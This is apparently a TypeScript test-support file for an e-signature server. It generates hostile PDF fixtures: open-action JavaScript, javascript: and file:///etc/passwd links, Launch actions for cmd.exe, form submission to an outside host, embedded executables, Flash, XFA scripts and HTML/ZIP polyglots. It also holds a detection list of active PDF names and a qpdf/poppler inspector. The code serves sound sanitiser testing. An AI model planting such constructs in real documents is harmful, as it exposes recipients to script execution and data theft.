/**
 * PDFs that carry active or hidden content, as an attacker uploads them for a contract document:
 * each kind the server must take out (or refuse), on one page of real text and a picture, so
 * that a test can see the page is unchanged. Written without object streams, so that the markers
 * a test looks for are in the file as bytes too.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import {
  PDFBool,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  rgb,
  type PDFContext,
  type PDFPage,
  type PDFRef,
} from 'pdf-lib';
import { solidPng } from '../../../../packages/template-editor/src/test-support/pdf';
import { zipArchive } from './word-files';

/** The script the probe found signed into contracts. */
export const PROBE_SCRIPT = "app.alert(1); this.submitForm('http://x')";

/** Adobe's placeholder page of a dynamic XFA form. */
const XFA_PLACEHOLDER =
  'Please wait... If this message is not eventually replaced by the proper contents of the document, your PDF viewer may not be able to display this type of document.';

const XDP = `<?xml version="1.0" encoding="UTF-8"?>
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="form1"><field name="price"><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></field></subform>
</template></xdp:xdp>`;

/**
 * A clean contract page: a heading and clauses in Helvetica, a coloured band, a picture, a web
 * link and a link to the page itself (both stay).
 */
export async function contractPdf(): Promise<{ document: PDFDocument; page: PDFPage }> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([595.28, 841.89]);
  page.drawRectangle({ x: 0, y: 780, width: 595.28, height: 62, color: rgb(0.09, 0.47, 1) });
  page.drawText('Sale of a car', { x: 48, y: 730, size: 26, font });
  for (let line = 0; line < 10; line++) {
    page.drawText(`Clause ${line + 1}: the buyer pays the price on delivery of the car.`, {
      x: 48,
      y: 680 - line * 22,
      size: 12,
      font,
      color: rgb(0.25, 0.25, 0.25),
    });
  }
  const picture = await document.embedPng(solidPng(64, 48, [200, 40, 40, 255]));
  page.drawImage(picture, { x: 48, y: 300, width: 128, height: 96 });
  addAnnotation(page, {
    Subtype: 'Link',
    Rect: [48, 250, 300, 270],
    Border: [0, 0, 0],
    A: { S: 'URI', URI: PDFString.of('https://example.com/terms') },
  });
  addAnnotation(page, {
    Subtype: 'Link',
    Rect: [48, 220, 300, 240],
    Border: [0, 0, 0],
    A: { S: 'GoTo', D: [page.ref, PDFName.of('Fit')] },
  });
  return { document, page };
}

function addAnnotation(page: PDFPage, entries: Record<string, unknown>): PDFRef {
  const { context } = page.doc;
  const ref = context.register(
    context.obj({ Type: 'Annot', F: 4, ...entries } as Parameters<PDFContext['obj']>[0]),
  );
  page.node.addAnnot(ref);
  return ref;
}

const script = (code = PROBE_SCRIPT) => ({ S: 'JavaScript', JS: PDFString.of(code) });

/** A file specification embedding `content` as `name`. */
function embeddedFile(context: PDFContext, name: string, content: string): PDFRef {
  const stream = context.flateStream(Buffer.from(content), { Type: 'EmbeddedFile' });
  return context.register(
    context.obj({
      Type: 'Filespec',
      F: PDFString.of(name),
      UF: PDFHexString.fromText(name),
      EF: { F: context.register(stream) },
    }),
  );
}

/** Saved as it stands: pdf-lib's form would drop an XFA form when it redraws the fields. */
const save = async (document: PDFDocument) =>
  Buffer.from(await document.save({ useObjectStreams: false, updateFieldAppearances: false }));

/** A PDF with an action on a link, as `kind` says. */
async function linkWith(action: Record<string, unknown>): Promise<Buffer> {
  const { document, page } = await contractPdf();
  addAnnotation(page, {
    Subtype: 'Link',
    Rect: [300, 220, 500, 240],
    Border: [0, 0, 0],
    A: action,
  });
  return save(document);
}

/** What each hostile PDF carries. */
export const HOSTILE_PDFS = {
  /** The probe's file: a script run on opening. */
  openActionScript: async () => {
    const { document } = await contractPdf();
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(script()));
    return save(document);
  },
  /** Scripts run when the page opens and when the document closes. */
  pageAndCatalogScripts: async () => {
    const { document, page } = await contractPdf();
    page.node.set(PDFName.of('AA'), document.context.obj({ O: script() }));
    document.catalog.set(PDFName.of('AA'), document.context.obj({ WC: script() }));
    return save(document);
  },
  /** A document-level script in the names tree. */
  namedScript: async () => {
    const { document } = await contractPdf();
    const action = document.context.register(document.context.obj(script()));
    document.catalog.set(
      PDFName.of('Names'),
      document.context.obj({ JavaScript: { Names: [PDFString.of('init'), action] } }),
    );
    return save(document);
  },
  linkScript: () => linkWith(script()),
  /** A `javascript:` address on a link. */
  linkScriptAddress: () => linkWith({ S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }),
  launch: () =>
    linkWith({ S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }),
  importData: () => linkWith({ S: 'ImportData', F: PDFString.of('values.fdf') }),
  goToR: () => linkWith({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, PDFName.of('Fit')] }),
  fileAddress: () => linkWith({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
  /** A button that sends the form away, and a field whose keystrokes run a script. */
  formActions: async () => {
    const { document, page } = await contractPdf();
    const form = document.getForm();
    const price = form.createTextField('price');
    price.setText('100');
    price.addToPage(page, { x: 320, y: 560, width: 200, height: 24 });
    price.acroField.dict.set(PDFName.of('AA'), document.context.obj({ K: script(), F: script() }));
    const send = form.createButton('send');
    send.addToPage('Send', page, { x: 320, y: 520, width: 100, height: 24 });
    send.acroField
      .getWidgets()[0]!
      .dict.set(
        PDFName.of('A'),
        document.context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://x') } }),
      );
    return save(document);
  },
  /** An attachment of the document (its names tree and its associated files). */
  attachment: async () => {
    const { document } = await contractPdf();
    await document.attach(Buffer.from('MZ pretend program'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
      description: 'Open me',
    });
    return save(document);
  },
  /** A file attachment annotation (a paper clip on the page). */
  fileAttachmentAnnotation: async () => {
    const { document, page } = await contractPdf();
    addAnnotation(page, {
      Subtype: 'FileAttachment',
      Rect: [520, 700, 540, 720],
      Name: 'PushPin',
      FS: embeddedFile(document.context, 'payload.html', '<script>alert(1)</script>'),
    });
    return save(document);
  },
  /** A RichMedia annotation (Flash) with a poster picture. */
  richMedia: async () => {
    const { document, page } = await contractPdf();
    const { context } = document;
    const asset = embeddedFile(context, 'movie.swf', 'FWS pretend flash');
    const poster = context.register(
      context.stream('0.5 g 0 0 100 60 re f', {
        Type: 'XObject',
        Subtype: 'Form',
        BBox: [0, 0, 100, 60],
      }),
    );
    addAnnotation(page, {
      Subtype: 'RichMedia',
      Rect: [420, 300, 520, 360],
      AP: { N: poster },
      RichMediaContent: {
        Assets: { Names: [PDFString.of('movie.swf'), asset] },
        Configurations: [
          {
            Type: 'RichMediaConfiguration',
            Subtype: 'Flash',
            Instances: [{ Type: 'RichMediaInstance', Subtype: 'Flash', Asset: asset }],
          },
        ],
      },
      RichMediaSettings: { Activation: { Condition: 'PO' } },
    });
    return save(document);
  },
  /** A static XFA form beside the PDF's own fields: the pages are drawn by the PDF. */
  xfa: async () => {
    const { document, page } = await contractPdf();
    const form = document.getForm();
    form.createTextField('price').addToPage(page, { x: 320, y: 560, width: 200, height: 24 });
    form.acroForm.dict.set(
      PDFName.of('XFA'),
      document.context.register(document.context.flateStream(XDP)),
    );
    return save(document);
  },
  /** A ZIP appended after the PDF's last %%EOF. */
  zipAppended: async () =>
    Buffer.concat([
      await save((await contractPdf()).document),
      zipArchive([{ name: 'index.html', content: '<script>alert(1)</script>' }]),
    ]),
  /** An HTML page before the PDF's header. */
  prefixed: async () =>
    Buffer.concat([
      Buffer.from('<html><body><script>alert(1)</script></body></html>\n'),
      await save((await contractPdf()).document),
    ]),
};
export type HostileKind = keyof typeof HOSTILE_PDFS;

/** A dynamic XFA form: its one page is the placeholder; the form draws the real ones. */
export async function dynamicXfaPdf({ needsRendering = true } = {}): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([612, 792]);
  page.drawText(XFA_PLACEHOLDER, { x: 20, y: 700, size: 6, font });
  const form = document.getForm();
  form.acroForm.dict.set(
    PDFName.of('XFA'),
    document.context.register(document.context.flateStream(XDP)),
  );
  if (needsRendering) document.catalog.set(PDFName.of('NeedsRendering'), PDFBool.True);
  return save(document);
}

/**
 * An HTML page with a PDF header whose objects sit in an HTML comment, without a cross-reference
 * table or trailer: pdf-lib finds a page in it, poppler and pdf.js find no PDF.
 */
export function htmlWithPdfHeader(): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      '<html><!--',
      '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj',
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj',
      `4 0 obj << /S /JavaScript /JS (${PROBE_SCRIPT}) >> endobj`,
      '--><script>alert(document.cookie)</script></html>',
      '',
    ].join('\n'),
    'latin1',
  );
}

const run = promisify(execFile);

async function inTempFile<T>(bytes: Uint8Array, read: (file: string) => Promise<T>): Promise<T> {
  const dir = await mkdtemp(path.join(tmpdir(), 'esign-hostile-'));
  try {
    const file = path.join(dir, 'document.pdf');
    await writeFile(file, bytes);
    return await read(file);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

/** Names that mark active or hidden content when qpdf finds them among a PDF's objects. */
const ACTIVE_NAMES = [
  'JS',
  'JavaScript',
  'AA',
  'OpenAction',
  'Launch',
  'SubmitForm',
  'ImportData',
  'GoToR',
  'GoToE',
  'EmbeddedFiles',
  'EmbeddedFile',
  'EF',
  'AF',
  'FileAttachment',
  'RichMedia',
  'RichMediaContent',
  'XFA',
];

/** What an independent reader finds in a PDF, by qpdf, pdfdetach, pdfinfo and its bytes. */
export interface PdfInspection {
  /** Which of the active names (`/JS`, `/EmbeddedFiles`, `/XFA`…) qpdf's JSON holds. */
  activeNames: string[];
  /** Addresses other than web ones in qpdf's JSON (`file:`, `javascript:`). */
  fileAddresses: string[];
  /** Files pdfdetach lists. */
  embeddedFiles: number;
  /** Bytes before `%PDF-`. */
  bytesBefore: number;
  /** Bytes after the last `%%EOF` that are not line ends. */
  bytesAfter: number;
  /** Pages pdfinfo reads; rejects when it cannot read the file. */
  pages: number;
}

export async function inspectPdf(bytes: Uint8Array): Promise<PdfInspection> {
  return inTempFile(bytes, async (file) => {
    // qpdf exits with 3 when it had to recover from something (trailing bytes): still its answer.
    const json = await run('qpdf', ['--json=2', '--json-key=qpdf', file], {
      maxBuffer: 64 * 1024 * 1024,
    }).then(
      ({ stdout }) => stdout,
      (error: { code?: number; stdout?: string }) => {
        if (error.code === 3 && error.stdout) return error.stdout;
        throw error;
      },
    );
    const activeNames = ACTIVE_NAMES.filter((name) => json.includes(`"/${name}"`));
    const fileAddresses = [...json.matchAll(/"u:((?:file|javascript):[^"]*)"/gi)].map(
      (match) => match[1]!,
    );
    const detach = (await run('pdfdetach', ['-list', file])).stdout;
    const info = (await run('pdfinfo', [file])).stdout;
    const text = Buffer.from(bytes).toString('latin1');
    const eof = text.lastIndexOf('%%EOF');
    return {
      activeNames,
      fileAddresses,
      embeddedFiles: Number(/^(\d+) embedded files/m.exec(detach)?.[1] ?? NaN),
      bytesBefore: Math.max(0, text.indexOf('%PDF-')),
      bytesAfter: eof < 0 ? bytes.length : text.slice(eof + 5).replace(/[\r\n]/g, '').length,
      pages: Number(/^Pages:\s+(\d+)/m.exec(info)?.[1] ?? NaN),
    };
  });
}

/**
 * Every page of a PDF as poppler's pdftoppm draws it, each as the SHA-256 of its pixels: two PDFs
 * look alike when these are equal.
 */
export async function pagePictures(bytes: Uint8Array, dpi = 72): Promise<string[]> {
  const { pages } = await inspectPdf(bytes);
  return inTempFile(bytes, async (file) => {
    const pictures: string[] = [];
    for (let page = 1; page <= pages; page++) {
      const { stdout } = await run(
        'pdftoppm',
        ['-r', String(dpi), '-f', String(page), '-l', String(page), file],
        { encoding: 'buffer', maxBuffer: 256 * 1024 * 1024 },
      );
      pictures.push(createHash('sha256').update(stdout).digest('hex'));
    }
    return pictures;
  });
}
